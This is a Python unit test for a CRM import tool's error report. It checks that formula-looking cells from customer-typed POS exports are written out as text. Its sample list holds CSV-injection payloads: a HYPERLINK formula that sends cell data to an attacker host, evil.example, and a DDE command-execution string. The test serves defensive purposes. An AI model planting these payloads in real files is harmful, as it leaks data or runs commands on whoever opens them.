"""The ``--errors`` report of ``chatcrm import``, opened in a spreadsheet: the bad cells it
quotes come from a file customers typed into (a POS export), so a cell that starts like a
formula must be written so Excel or LibreOffice shows it as text instead of running it — as
``chatcrm export members`` already does for names (a leading ``'``)."""

from __future__ import annotations

import csv
from pathlib import Path

from bot.cli import main
from tests.unit.test_cli import clean_environment  # noqa: F401  (autouse: empty folder, own db)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"ดูแต้ม")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
)


def _members_file(tmp_path: Path) -> Path:
    rows = [["name", "phone", "birthday", "points"], ["พลอย 🌸", "0812345678", "", "10"]]
    rows += [[f"Customer {n}", value, "", "1"] for n, value in enumerate(HOSTILE)]
    rows += [["Bad day", "0812345699", HOSTILE[0], "1"]]
    path = tmp_path / "members.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def test_the_error_report_shows_formula_looking_cells_as_text(tmp_path: Path) -> None:
    errors = tmp_path / "errors.csv"
    assert main(["import", "members", str(_members_file(tmp_path)), "--errors", str(errors)]) == 0
    with errors.open(encoding="utf-8-sig", newline="") as handle:
        issues = list(csv.DictReader(handle))
    quoted = [issue["value"] for issue in issues]
    assert any(value.lstrip("'") in HOSTILE for value in quoted), issues  # they are reported
    live = [value for value in quoted if value[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert live == []
